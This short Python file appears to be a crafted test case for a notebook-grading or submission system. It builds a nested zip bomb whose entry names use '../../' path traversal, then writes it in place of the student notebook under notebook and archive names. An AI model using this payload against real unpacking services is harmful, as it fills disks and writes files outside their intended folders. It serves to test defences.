# family = "crafted"
# tries = "In the notebook's place lies an archive of 10 kB that unpacks to 10 MB, to 10 GB if one goes on, and another one beside it."
# could_earn = "A disk that is full, where archives are unpacked."

from __future__ import annotations

import io
import zipfile
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from pathlib import Path


def hand_in(folder: Path, notebook: Any) -> None:
    data = b"\0" * 10_000_000
    for _ in range(2):
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(10):
                archive.writestr(f"../../attack_canary_{number}.ipynb", data)
        data = packed.getvalue()
    for name in ("lab_1_2.ipynb", "lab_1_2.zip", "submission.tar.gz"):
        (folder / name).write_bytes(data)
